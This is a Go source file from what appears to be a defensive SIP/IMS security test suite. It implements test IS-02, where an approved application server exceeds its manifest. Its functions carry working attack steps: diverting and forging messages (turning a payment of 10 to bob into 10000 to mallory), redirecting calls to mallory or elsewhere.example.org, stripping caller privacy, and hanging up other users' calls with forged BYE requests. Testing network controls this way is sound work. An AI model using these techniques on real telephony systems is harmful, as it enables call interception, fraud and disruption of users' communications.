package attack

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"time"

	"imsafe/proto/sip"
	"imsafe/secure"
)

// asOverreach: an approved platform does what nobody has approved.
func asOverreach() Attack {
	controls := []secure.ControlID{secure.ISAuthorizationManifest}
	variant := func(name string, run func(context.Context, *Field, *Outcome) error) Variant {
		return Variant{Name: name, Position: EnrolledPlatform, Controls: controls, Run: run}
	}
	return Attack{
		ID: "is.as.overreach", Number: "IS-02", Title: "an approved platform acts beyond its manifest",
		Text:     "a service that may stay in the path of calls would be one that takes them, sends them elsewhere, and writes to anybody",
		Services: []Service{Authentication}, Stride: Elevation, Threats: []Threat{Removal}, Module: ApplicationsControl,
		Source: "TS 23.218 5.1.1", Access: []Access{ISC},
		Approved: []Approved{{Name: tap, Manifest: rights("session.proxy") + asked("terminating", 10, "continue")}, {Name: chat, Manifest: rights("session.originate")}},
		Bounds:   Bounds{Packets: 80, Bytes: 80_000, Conns: 2, Time: 3 * time.Second},
		Variants: []Variant{variant("originate", overreachOriginate), variant("answer", overreachAnswer), variant("divert", overreachDivert),
			variant("rewrite", overreachRewrite), variant("dialog", overreachDialog),
			variant("redirect", overreachRedirect), variant("path", overreachPath), variant("privacy", overreachPrivacy),
			variant("method", overreachMethod), variant("within", overreachWithin), variant("field", overreachField), variant("contact", overreachContact),
			variant("elsewhere", overreachElsewhere)},
	}
}

// tap is a platform that may stay in the path of sessions to carol, and nothing else.
const tap = "tap"

// overreachOriginate: it writes to carol ten times of its own accord.
func overreachOriginate(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	s, err := f.server(ctx, f.attacker, tap, nil)
	if err != nil {
		return err
	}
	const times, unwanted = 10, "unwanted"
	taken := 0
	for range times {
		answer, err := s.Ask(ctx, s.writes(carol.IMPU, unwanted))
		if err != nil {
			return err
		}
		o.Arrived("%d messages, the last answered %d", times, answer.Status())
		if answer.Status() == 200 {
			taken++
		}
	}
	heard, err := f.counts(ctx, dave, carol, func(m *sip.Message) bool { return string(m.Body()) == unwanted })
	if err != nil {
		return err
	}
	o.Users = min(heard, 1)
	o.Wire(taken > 0, "%d of %d messages of the platform are taken", taken, times)
	o.Peer(heard > 0, "carol gets %d of %d messages of the platform", heard, times)
	return nil
}

// overreachAnswer: it takes a call that is for carol, and a message.
func overreachAnswer(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	const text = "for carol alone"
	s, err := f.server(ctx, f.attacker, tap, func(s *Server) {
		s.Handle = func(m *sip.Message) bool {
			return (m.Method() == sip.INVITE || string(m.Body()) == text) && s.Answer(m, 200, s.contact()) == nil
		}
	})
	if err != nil {
		return err
	}
	taken, callID := 0, f.token()
	for _, request := range []string{dave.calls(carol.IMPU, callID), dave.Message(carol.IMPU, text)} {
		answer, err := dave.Ask(ctx, request)
		if err != nil {
			return err
		}
		if answer.Status() == 200 {
			taken++
		}
	}
	o.Arrived("the platform is asked about %d call and %d message to carol, and answers 200", len(s.Seen("INVITE")), len(s.Seen("MESSAGE")))
	came, err := f.counts(ctx, dave, carol, func(m *sip.Message) bool { return string(m.Get(sip.HdrCallID)) == callID || string(m.Body()) == text })
	if err != nil {
		return err
	}
	o.Peer(taken > came, "of a call and a message of dave's to carol %d are answered 200; her telephone hears of %d", taken, came)
	return nil
}

// overreachDivert: it sends what is for carol to a subscriber of its own.
func overreachDivert(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	mallory.answers.Store(true)
	const secret = "for carol alone"
	s, err := f.server(ctx, f.attacker, tap, func(s *Server) {
		s.Edit = func(m *sip.Message) {
			if string(m.Body()) == secret {
				m.SetRequestURI([]byte(mallory.IMPU))
			}
		}
	})
	if err != nil {
		return err
	}
	answer, err := dave.Ask(ctx, dave.Message(carol.IMPU, secret))
	if err != nil {
		return err
	}
	o.Arrived("the platform changes the target of %d message", len(s.Seen("MESSAGE")))
	read := 0
	if answer.Status() == 200 {
		if m, err := mallory.Got(ctx, sip.MESSAGE, secret); err == nil {
			m.Release()
			read = 1
		}
	}
	missed, err := f.counts(ctx, dave, carol, func(m *sip.Message) bool { return string(m.Body()) == secret })
	if err != nil {
		return err
	}
	o.Users = read
	o.Wire(read > 0, "mallory reads %d messages for carol", read)
	o.Peer(answer.Status() == 200 && missed == 0, "dave is answered %d, and carol gets %d of 1", answer.Status(), missed)
	return nil
}

// overreachRewrite: it changes what dave has written to carol, and whom he has her call (RFC 3515).
func overreachRewrite(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	mallory := f.Users[Mallory].IMPU
	s, err := f.server(ctx, f.attacker, tap, func(s *Server) {
		s.Edit = func(m *sip.Message) {
			if string(m.Body()) == trueText {
				m.SetBody("text/plain", []byte(forgedText))
			}
			if m.Method() == sip.REFER {
				m.SetString(sip.HdrReferTo, "<"+mallory+">")
			}
		}
	})
	if err != nil {
		return err
	}
	answer, err := dave.Ask(ctx, dave.Message(carol.IMPU, trueText))
	if err != nil {
		return err
	}
	refers, err := dave.Ask(ctx, dave.Text(Request{Method: "REFER", URI: carol.IMPU, Lines: []string{"Refer-To: <" + f.Users[Bob].IMPU + ">", "Contact: " + dave.Contact()}}))
	if err != nil {
		return err
	}
	o.Arrived("the platform changes %d message and %d REFER; dave is answered %d, %d", len(s.Seen("MESSAGE")), len(s.Seen("REFER")), answer.Status(), refers.Status())
	read, err := f.counts(ctx, dave, carol, func(m *sip.Message) bool { return string(m.Body()) == forgedText || names(m, sip.HdrReferTo, mallory) })
	if err != nil {
		return err
	}
	o.Users = min(read, 1)
	o.Peer(read > 0, "carol reads %d of 2 requests that dave has not written like that", read)
	o.Wire(answer.Status() == 200 || refers.Status() == 200, "dave is answered %d, %d", answer.Status(), refers.Status())
	return nil
}

// overreachRedirect: it tells dave, who calls carol, to call mallory.
func overreachRedirect(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	s, err := f.server(ctx, f.attacker, tap, func(s *Server) {
		s.Handle = func(m *sip.Message) bool {
			return m.Method() == sip.INVITE && s.Answer(m, 302, "Contact: <"+f.Users[Mallory].IMPU+">") == nil
		}
	})
	if err != nil {
		return err
	}
	answer, err := dave.Ask(ctx, dave.calls(carol.IMPU, f.token()))
	if err != nil {
		return err
	}
	o.Arrived("the platform answers %d call with 302", len(s.Seen("INVITE")))
	sent := answer.Status() == 302 && names(answer, sip.HdrContact, f.Users[Mallory].IMPU)
	if sent {
		o.Users = 1
	}
	o.Peer(sent, "dave, who calls carol, is answered %d, and sent to mallory: %v", answer.Status(), sent)
	return nil
}

// passing has dave call carol, once for each edit, by which the platform changes the call, and counts the calls in which carol reads a word that does not belong
// there.
func (f *Field) passing(ctx context.Context, o *Outcome, lines []string, word func(*Hand) string, edits ...func(*sip.Message)) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	var edit func(*sip.Message)
	s, err := f.server(ctx, f.attacker, tap, func(s *Server) {
		s.Edit = func(m *sip.Message) {
			if m.Method() == sip.INVITE {
				edit(m)
			}
		}
	})
	if err != nil {
		return err
	}
	read, last := 0, 0
	for _, edit = range edits {
		callID := f.token()
		answer, err := dave.Ask(ctx, dave.Text(Request{Method: "INVITE", URI: carol.IMPU, CallID: callID, Lines: append(lines, "Contact: "+dave.Contact())}))
		if err != nil {
			return err
		}
		if last = answer.Status(); last != 200 {
			continue
		}
		m, err := carol.Await(ctx, func(m *sip.Message) bool {
			return m.IsRequest() && m.Method() == sip.INVITE && string(m.Get(sip.HdrCallID)) == callID
		})
		if err != nil {
			return err
		}
		if _, there := says(m, word(dave)); there {
			read++
		}
		m.Release()
	}
	o.Arrived("the platform changes %d calls to carol, the last is answered %d", len(s.Seen("INVITE")), last)
	o.Users = min(read, 1)
	o.Peer(read > 0, "carol reads what does not belong there in %d of %d calls", read, len(edits))
	return nil
}

// overreachPath: it puts another host into the way of the dialog, in front of those who are in it and in their place, and another into its Contact.
func overreachPath(ctx context.Context, f *Field, o *Outcome) error {
	const elsewhere = "elsewhere.example.org"
	return f.passing(ctx, o, nil, func(*Hand) string { return elsewhere },
		func(m *sip.Message) { m.PrependString(sip.HdrRecordRoute, "<sip:"+elsewhere+";lr>") },
		func(m *sip.Message) { // in the place of those who were in the path before
			m.Remove(sip.HdrRecordRoute)
			m.AppendString(sip.HdrRecordRoute, "<sip:"+elsewhere+";lr>")
		},
		func(m *sip.Message) { m.SetString(sip.HdrContact, "<sip:"+elsewhere+">") })
}

// overreachPrivacy: it takes off that dave does not want to be known.
func overreachPrivacy(ctx context.Context, f *Field, o *Outcome) error {
	return f.passing(ctx, o, []string{"Privacy: id"}, func(dave *Hand) string { return dave.IMPU },
		func(m *sip.Message) { m.SetString(sip.HdrPrivacy, "none") })
}

// overreachDialog: it hangs up a call in which it has no part: that of alice and bob, with all that a reader of their signalling knows.
func overreachDialog(ctx context.Context, f *Field, o *Outcome) error {
	s, err := f.server(ctx, f.attacker, tap, nil)
	if err != nil {
		return err
	}
	out, in, err := f.Alice.Talk(ctx, f.Bob)
	if err != nil {
		return err
	}
	defer func() { out.Hangup(); in.Hangup() }()
	leg, err := out.Leg(ctx)
	if err != nil {
		return err
	}
	bye := Request{Method: "BYE", URI: leg.Target, From: leg.Local, FromTag: leg.LocalTag, To: leg.Remote, ToTag: leg.RemoteTag, CallID: leg.CallID,
		CSeq: leg.Seq + 100}
	for _, r := range leg.Route[min(2, len(leg.Route)):] { // behind the entries of the P-CSCF: a platform comes in at the S-CSCF
		bye.Lines = append(bye.Lines, "Route: "+r)
	}
	answer, err := s.Ask(ctx, s.Begins(bye))
	if err != nil {
		return err
	}
	o.Arrived("a BYE in a call of others is answered %d", answer.Status())
	o.Wire(answer.Status() == 200, "the platform is answered %d", answer.Status())
	if err := f.stillTalk(ctx, out, in); err != nil {
		o.Users = 2
		o.Peer(true, "%v", err)
		return nil
	}
	o.Peer(false, "alice and bob go on talking")
	return attackOver(Part(ctx, out, in))
}

// overreachMethod: it begins what no scope is for: it has carol call mallory (RFC 3515), and tells her something outside every call.
func overreachMethod(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	s, err := f.server(ctx, f.attacker, tap, nil)
	if err != nil {
		return err
	}
	mallory := f.Users[Mallory].IMPU
	taken := 0
	for _, r := range []Request{
		{Method: "REFER", URI: carol.IMPU, Lines: []string{"Refer-To: <" + mallory + ">", s.contact()}},
		{Method: "INFO", URI: carol.IMPU, Lines: []string{"Refer-To: <" + mallory + ">"}},
	} {
		answer, err := s.Ask(ctx, s.Begins(r))
		if err != nil {
			return err
		}
		o.Arrived("a REFER and an INFO, the last answered %d", answer.Status())
		if answer.Status() == 200 {
			taken++
		}
	}
	heard, err := f.counts(ctx, dave, carol, func(m *sip.Message) bool { return names(m, sip.HdrReferTo, mallory) })
	if err != nil {
		return err
	}
	o.Users = min(heard, 1)
	o.Wire(taken > 0, "%d of 2 requests of the platform are taken", taken)
	o.Peer(heard > 0, "carol's telephone is told %d of 2 times to call mallory", heard)
	return nil
}

// speaking is a request of the platform's own in the name of whom a request within a dialog is from that it passes on.
func (s *Server) speaking(m *sip.Message, method string, lines ...string) (Request, error) {
	from, wrong := m.From()
	to, err := m.To()
	if wrong != nil || err != nil {
		return Request{}, fmt.Errorf("attack: a request within a dialog is from %q to %q", m.Get(sip.HdrFrom), m.Get(sip.HdrTo))
	}
	seq, _, err := m.CSeq()
	r := Request{Method: method, URI: string(m.RequestURI()), From: string(from.URI), FromTag: string(from.Tag()), To: string(to.URI), ToTag: string(to.Tag()),
		CallID: string(m.Get(sip.HdrCallID)), CSeq: seq + 100, Lines: append([]string{s.contact()}, lines...)}
	for v := range m.Values(sip.HdrRoute) {
		r.Lines = append(r.Lines, "Route: "+string(v))
	}
	return r, err
}

// overreachWithin: in a call of dave's to carol it asks her for something in his name, and changes what he asks her for.
func overreachWithin(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	mallory := f.Users[Mallory].IMPU
	own := make(chan Request, 1)
	s, err := f.server(ctx, f.attacker, tap, func(s *Server) { s.Edit = s.changesWithin(mallory, own) })
	if err != nil {
		return err
	}
	inside, _, err := dave.talksTo(ctx, carol)
	if err != nil {
		return err
	}
	if _, err := dave.asksWithin(ctx, &inside, "INFO", ""); err != nil {
		return err
	}
	of := <-own
	if _, err := s.Ask(ctx, s.Begins(of)); err != nil {
		return err
	}
	if _, err := s.asksWithin(ctx, &of, "MESSAGE", forgedText, "Content-Type: text/plain"); err != nil {
		return err
	}
	inside.CSeq = of.CSeq + 10 // behind those of the platform
	if _, err := dave.asksWithin(ctx, &inside, "MESSAGE", trueText, "Content-Type: text/plain"); err != nil {
		return err
	}
	last, err := dave.asksWithin(ctx, &inside, "REFER", "", "Refer-To: <"+f.Users[Bob].IMPU+">", "Contact: "+dave.Contact())
	if err != nil {
		return err
	}
	of.CSeq = inside.CSeq + 10
	if err := s.refersTwice(ctx, of, f.Users[Bob].IMPU); err != nil {
		return err
	}
	o.Arrived("in a call of dave's the platform asks for 2 things in his name, changes 2 that he asks for and repeats one, the last is answered %d", last.Status())
	referrals := map[string]bool{}
	read, err := f.counts(ctx, dave, carol, func(m *sip.Message) bool {
		if names(m, sip.HdrReferTo, f.Users[Bob].IMPU) {
			referrals[string(m.Get(sip.HdrCSeq))] = true
		}
		return string(m.Body()) == forgedText || names(m, sip.HdrReferTo, mallory)
	})
	if err != nil {
		return err
	}
	read += max(len(referrals)-1, 0)
	o.Users = min(read, 1)
	o.Peer(read > 0, "carol is asked for %d of 5 things that dave has not asked for", read)
	return nil
}

// changesWithin is what the platform makes of requests within a call: of a message another one, of a REFER one to whom it likes; and of an INFO it learns how to begin its own.
func (s *Server) changesWithin(whom string, own chan<- Request) func(*sip.Message) {
	return func(m *sip.Message) {
		switch {
		case m.Method() == sip.INFO:
			if r, err := s.speaking(m, "REFER", "Refer-To: <"+whom+">"); err == nil {
				own <- r
			}
		case string(m.Body()) == trueText && len(m.ToTag()) > 0:
			m.SetBody("text/plain", []byte(forgedText))
		case m.Method() == sip.REFER:
			m.SetString(sip.HdrReferTo, "<"+whom+">")
		}
	}
}

// refersTwice passes a REFER on that the platform has kept to itself, as it may, and once more.
func (s *Server) refersTwice(ctx context.Context, inside Request, whom string) error {
	inside.Lines = slices.DeleteFunc(inside.Lines, func(line string) bool { return strings.HasPrefix(line, "Refer-To:") })
	for range 2 {
		if _, err := s.asksWithin(ctx, &inside, "REFER", "", "Refer-To: <"+whom+">"); err != nil {
			return err
		}
	}
	return nil
}

// What dave writes, and what the platform makes of it.
const (
	trueText   = "pay 10 to bob"
	forgedText = "pay 10000 to mallory"
)

// overreachField: it writes into what passes it within a call, and into the answers, who is said to have diverted the call (RFC 5806): a field that is no platform's.
func overreachField(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	mallory := f.Users[Mallory].IMPU
	writes := func(m *sip.Message) {
		if m.Method() != sip.MESSAGE {
			m.SetString(sip.HdrDiversion, "<"+mallory+">;reason=unconditional")
		}
	}
	s, err := f.server(ctx, f.attacker, tap, func(s *Server) { s.Edit, s.EditAnswer = writes, writes })
	if err != nil {
		return err
	}
	inside, _, err := dave.talksTo(ctx, carol)
	if err != nil {
		return err
	}
	const rounds = 5
	asked, answered := 0, 0
	inside.Method = "INFO"
	for range rounds {
		inside.CSeq++
		answer, err := dave.Ask(ctx, dave.Text(inside))
		if err != nil {
			return err
		}
		if _, there := says(answer, mallory); there {
			answered++
		}
		m, err := carol.Await(ctx, func(m *sip.Message) bool { return m.IsRequest() && m.Method() == sip.INFO })
		if err != nil {
			return err
		}
		if _, there := says(m, mallory); there {
			asked++
		}
	}
	o.Arrived("the platform writes a field of its own into %d requests within a call, and into their answers", len(s.Seen("INFO")))
	if asked+answered > 0 {
		o.Users = 1
	}
	o.Peer(asked+answered > 0, "carol reads it in %d of %d requests, dave in %d of %d answers", asked, rounds, answered, rounds)
	return nil
}

// overreachContact: it says in carol's answer that she is elsewhere: there dave's telephone would send what he says within the call.
func overreachContact(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	const elsewhere = "elsewhere.example.org"
	s, err := f.server(ctx, f.attacker, tap, func(s *Server) {
		s.EditAnswer = func(m *sip.Message) {
			if m.Has(sip.HdrContact) {
				m.SetString(sip.HdrContact, "<sip:"+elsewhere+">")
			}
		}
	})
	if err != nil {
		return err
	}
	carol.answers.Store(false)
	taking, enough := context.WithCancel(ctx)
	defer enough()
	rang := make(chan int, 1)
	go func() { rang <- carol.takesCalls(taking) }()
	answer, err := dave.Ask(ctx, dave.calls(carol.IMPU, f.token()))
	if err != nil {
		return err
	}
	if _, err := dave.acknowledges(answer, carol.IMPU); err != nil {
		return err
	}
	enough()
	o.Arrived("dave calls %d times over the platform, which changes the answer of carol's telephone; it rings %d times", len(s.Seen("INVITE")), <-rang)
	sent := names(answer, sip.HdrContact, "sip:"+elsewhere)
	if sent {
		o.Users = 1
	}
	o.Peer(sent, "dave's telephone is told that carol is at %q", answer.Get(sip.HdrContact))
	return nil
}

// overreachElsewhere: it calls carol, as it may, and says that it is reached at another host, or by way of one: whatever the call asks of it goes there.
func overreachElsewhere(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	s, err := f.server(ctx, f.attacker, chat, nil)
	if err != nil {
		return err
	}
	const elsewhere = "sip:elsewhere.example.org"
	for _, lines := range [][]string{{"Contact: <" + elsewhere + ">"}, {s.contact(), "Record-Route: <" + elsewhere + ";lr>"}} {
		answer, err := s.Ask(ctx, s.Begins(Request{Method: "INVITE", URI: carol.IMPU, Lines: lines}))
		if err != nil {
			return err
		}
		o.Arrived("the platform's calls, the last answered %d", answer.Status())
	}
	told, err := f.counts(ctx, dave, carol, func(m *sip.Message) bool {
		return m.Method() == sip.INVITE && (names(m, sip.HdrContact, elsewhere) || contains(m.Last(sip.HdrRecordRoute), elsewhere))
	})
	if err != nil {
		return err
	}
	o.Users = min(told, 1)
	o.Peer(told > 0, "carol's telephone is told in %d calls that the platform is at %q", told, elsewhere)
	return nil
}
